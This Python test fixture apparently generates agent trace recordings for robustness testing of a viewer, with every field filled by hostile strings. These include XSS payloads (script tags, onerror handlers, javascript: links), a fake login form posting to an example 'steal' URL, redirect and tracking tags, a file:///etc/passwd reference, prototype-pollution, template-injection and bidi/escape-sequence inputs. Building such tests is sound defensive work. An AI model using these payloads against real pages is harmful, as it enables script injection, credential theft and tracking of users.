"""Recordings whose texts try to become more than text, in every field that a page shows."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

MARK = "VISIBLE-TO-THE-END"
"""Stands at the end of every text: what hides it hides evidence."""

TEXTS = {
    "script": "<script>document.title='owned'</script>",
    "handler": "<img src=x onerror=\"document.title='owned'\"><svg onload=\"document.title='owned'\">",
    "end of script": "</script><script>document.title='owned'</script>",
    "end of style": "</style><style>*{display:none!important}</style>",
    "javascript link": "[click me](javascript:document.title='owned') [data](data:text/html,<script>alert(1)</script>)",
    "unclosed svg": "<svg><style> not closed",
    "comment": "<!-- hidden from here on",
    "textarea": "<textarea><title><noscript><plaintext>",
    "style attribute": '<div style="position:fixed;inset:0;background:red;z-index:99999">cover</div>',
    "form": '<form action="https://example.org/steal"><input name=a autofocus><button>Log in</button></form>',
    "frame": '<iframe src="https://example.org/"></iframe><object data="https://example.org/"></object>',
    "base": '<base href="https://example.org/"><meta http-equiv="refresh" content="0;url=https://example.org/">',
    "remote image": "![x](https://example.org/track.png) ![y](file:///etc/passwd) <img src=https://example.org/a.png>",
    "fences": "````\n```\n<b>inside</b>\n```\n````\n~~~\n```\n~~~\n``` unclosed\n<i>in the fence</i>",
    "bidi": "safe \u202egnp.exe\u202c \u2066hidden\u2069 \u200fright",
    "control": "a\u0000b\u0007c\u001b[2Jd\u001b]0;title\u0007e\u0085f",
    "escape colours": "\u001b[31mred\u001b[0m plain \u001b[8mconcealed\u001b[0m",
    "tags": "ignore \U000e0069\U000e0067\U000e006e this",
    "surrogate": "half \ud800 of a pair \udfff",
    "long line": "x" * 200_000,
    "deep quote": ">" * 3_000 + " deep",
    "deep list": "\n".join("  " * n + "- item" for n in range(200)),
    "many stars": "*a **b " * 3_000,
    "combining": "z" + "\u0301\u0302\u0303" * 3_000,
    "prototype": '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    "looks cut": '{"cuts": [[["steps", 0], {"text": "index", "size": 9, "bytes": 9}]], "steps": []}',
    "template": "{{ 7*7 }} ${7*7} <%= 7*7 %>",
    "css": "}*{background:url(https://example.org/css)}",
    "entity": "&lt;script&gt; &#60;b&#62; &amp;",
}


def _said(name: str) -> str:
    return f"{TEXTS[name]}\n\n{MARK} {name}"


def sample_id(name: str) -> str:
    """Hostile, too."""
    return f"{name} {TEXTS[name][:60]}"


def sample(name: str) -> dict[str, Any]:
    """A sample that has the text wherever a recording can have one."""
    text = _said(name)
    steps = [
        {"id": text[:50], "role": "system", "parts": [{"type": "text", "text": text}]},
        {"role": "user", "parts": [{"type": "text", "text": text}, {"type": "text", "text": text, "synthetic": True}]},
        {
            "id": "s2",
            "role": "agent",
            "agent": text[:200],
            "model": text[:200],
            "stop": text[:100],
            "parts": [
                {"type": "thinking", "text": text},
                {"type": "text", "text": text},
                {
                    "type": "call",
                    "id": "c1",
                    "name": text[:200],
                    "arguments": {text[:200]: text, "nested": {"a": [text]}},
                },
                {"type": "result", "call_id": "c1", "output": text, "error": text},
                {
                    "type": "call",
                    "id": "c2",
                    "name": "edit",
                    "arguments": {"old_string": text, "new_string": text + "!"},
                },
                {"type": "result", "call_id": "c2", "output": {"html": text, "json": json.dumps({"in": text})}},
                {"type": "media", "mime": text[:100], "uri": text, "name": text},
                {
                    "type": "media",
                    "mime": "image/svg+xml",
                    "uri": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
                },
                {"type": "citation", "uri": "javascript:alert(1)", "title": text, "text": text},
                {"type": "action", "kind": "click", "text": text, "url": "javascript:alert(1)", "raw": text},
                {"type": "unknown", "kind": text[:100], "raw": {"x": text}},
            ],
            "error": {"kind": text[:200], "message": text, "traceback": text},
            "state_delta": {text[:100]: text},
        },
    ]
    trajectory = {
        "id": name,
        "title": text[:300],
        "steps": steps,
        "outcome": {"status": "failed", "reason": text[:2000]},
        "agents": [{"name": text[:100], "instructions": text}],
        "state": {text[:100]: text},
        "children": [{"id": "child", "title": text[:200], "caller": "c1", "steps": steps[:1]}],
    }
    case = {
        "id": f"case {name}",
        "question": text,
        "reference": text,
        "labels": {text[:60]: text[:60]},
        "expected_calls": [{"name": text[:100], "arguments": {"a": text}, "reason": text}],
    }
    scores = [
        {"name": text[:120], "value": text[:500], "explanation": text, "evidence": ["s2"], "details": {"x": text}}
    ]
    return {"id": sample_id(name), "case": case, "trajectory": trajectory, "scores": scores}


def write(target: Path) -> Path:
    """All of it as one native file."""
    header = {"pantrace": "2", "run": {"name": _said("script"), "task": _said("handler"), "model": _said("css")}}
    lines = [json.dumps(header), *(json.dumps(sample(name)) for name in TEXTS)]
    target.write_text("\n".join(lines) + "\n")
    return target
